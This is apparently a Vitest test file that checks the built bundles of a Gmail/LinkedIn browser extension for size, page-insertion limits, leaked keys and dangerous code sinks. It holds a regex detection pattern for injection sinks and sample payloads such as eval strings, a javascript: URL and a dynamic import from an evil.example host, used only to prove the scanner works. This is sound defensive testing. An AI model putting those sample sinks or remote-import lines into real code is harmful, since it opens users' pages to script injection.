import { describe, expect, it } from 'vitest';
import { builtFiles, builtText, CONTENT_SCRIPTS, gzipBytes, repoText } from './output';

const KB = 1_000;
/** Bytes of gzip, by script; the one beside a page of LinkedIn's has nothing to draw with. */
const GATES = {
  'gmail-page.js': 30.9 * KB,
  'linkedin-page.js': 32.7 * KB,
  'linkedin-panel.js': 10 * KB,
};
const PANEL_SCRIPT = 'linkedin-panel.js';

/** Every way in which a browser makes markup, a script or an address of a text. */
const DANGERS =
  /innerHTML|outerHTML|insertAdjacentHTML|dangerouslySetInnerHTML|__html|DOMParser|srcdoc|setHTMLUnsafe|parseHTMLUnsafe|createContextualFragment|XSLTProcessor|document\.write|\beval\b|(?<![\w$.`'"])Function\b(?![`'"])|importScripts|(javascript|vbscript):|set(Timeout|Interval)\(["'`]|import\(["'`](https?:|\/\/)/g;

/**
 * What stands of that in the shipped code: the one place in Preact that draws
 * `dangerouslySetInnerHTML`, which no component of ours has (the linter refuses it), and where it
 * distinguishes that property from attributes. Letters that a minifier chose are `_`.
 */
const PREACT = [
  '(_)_||_&&(_.__html==_._',
  '_.__html==_.__html||_._',
  '_.__html||_.__html==_._',
  '_.__html==_.innerHTML)||(_',
  'erHTML)||(_.innerHTML=_.__',
  'innerHTML=_.__html),_._',
  'se if(_&&(_.innerHTML=``),',
  ')_=_[_],_==`dangerouslySetInnerHTML`?_=_',
  'en`?_=_:_==`dangerouslySetInnerHTML`?_=_',
];

/** Each danger in a code with what stands beside it, names that a minifier gives taken out. */
function dangersIn(code: string): string[] {
  return [...code.matchAll(DANGERS)].map((match) =>
    code
      .slice(Math.max(0, match.index - 12), match.index + match[0].length + 5)
      .replace(/\b[a-zA-Z]\b/g, '_'),
  );
}

/** A file of a build without the mark of its content. */
function named(file: string): string {
  return file.startsWith('chunks/') ? 'chunk' : file;
}

describe.each(['chromium', 'firefox'] as const)('the bundle for %s', (build) => {
  it.each(CONTENT_SCRIPTS)('has %s within its size', (script) => {
    expect(gzipBytes(build, script)).toBeLessThanOrEqual(GATES[script]);
  });

  it('has a script beside LinkedIn’s pages that cannot put anything into them', () => {
    const INSERTS =
      /createElement|createTextNode|createDocumentFragment|attachShadow|adoptedStyleSheets|\.(append|prepend|appendChild|insertBefore|replaceWith|replaceChildren|setAttribute|after|before|insertRule)\(|\.(style|textContent|innerText|className|classList|dataset|title|value)\b\s*=[^=]/g;
    expect(builtText(build, PANEL_SCRIPT).match(INSERTS)).toBeNull();
    expect(builtText(build, 'linkedin-page.js').match(INSERTS)?.length).toBeGreaterThan(5);
  });

  it('calls nothing out on the pages: the framework’s own content scripts do, under the extension’s id', () => {
    const CALLS = /postMessage|CustomEvent|content-script-started|document\.dispatchEvent/;
    for (const script of CONTENT_SCRIPTS)
      expect(builtText(build, script), script).not.toMatch(CALLS);
    const theirs = 'node_modules/wxt/dist/utils/content-script-context.mjs';
    expect(repoText(theirs)).toMatch(CALLS);
  });

  it.each(CONTENT_SCRIPTS)(
    'carries no database, no schema library and no key into the page: %s',
    (name) => {
      const script = builtText(build, name);
      for (const mark of ['indexedDB', 'Dexie', 'ZodMini', '_zod', 'Bearer', 'api.hubapi.com']) {
        expect(script.includes(mark), mark).toBe(false);
      }
      // The same marks are where they belong: a search that finds nothing anywhere proves nothing.
      expect(builtText(build, 'background.js')).toContain('api.hubapi.com');
    },
  );

  it('makes no markup and runs no code from text, but for one path of a library that nothing of ours takes', () => {
    const found = builtFiles(build)
      .filter((name) => /\.(js|html)$/.test(name))
      .flatMap((name) =>
        dangersIn(builtText(build, name)).map((danger) => `${named(name)}: ${danger}`),
      );
    const drawing = ['chunk', ...CONTENT_SCRIPTS.filter((script) => script !== PANEL_SCRIPT)];
    const allowed = drawing.flatMap((file) => PREACT.map((line) => `${file}: ${line}`));
    expect([...new Set(found)].sort()).toEqual(allowed.sort());
    // Once a file that draws, and the worker draws nothing.
    expect(found).toHaveLength(allowed.length);
  });

  it('has a search for that which does find it', () => {
    for (const danger of [
      'a.innerHTML=b',
      'a.outerHTML=b',
      'a.insertAdjacentHTML("beforeend",b)',
      'new DOMParser',
      'a.srcdoc=b',
      'a.setHTMLUnsafe(b)',
      'r.createContextualFragment(b)',
      'document.write(b)',
      'eval(a)',
      '(0,eval)(a)',
      'new Function(a)',
      'Function("return this")()',
      'setTimeout("a()",1)',
      'importScripts(a)',
      'location="javascript:a()"',
      'import("https://evil.example/a.js")',
      '{dangerouslySetInnerHTML:{__html:a}}',
    ]) {
      expect(dangersIn(`x;${danger};y`), danger).not.toEqual([]);
    }
  });

  it('contains no map, no test and no address of the machine it was built on', () => {
    const files = builtFiles(build);
    expect(files.filter((name) => /\.map$|test|preview/.test(name))).toEqual([]);
    for (const file of files.filter((name) => /\.(js|css|html|json)$/.test(name))) {
      expect(builtText(build, file), file).not.toContain(process.cwd());
    }
  });
});
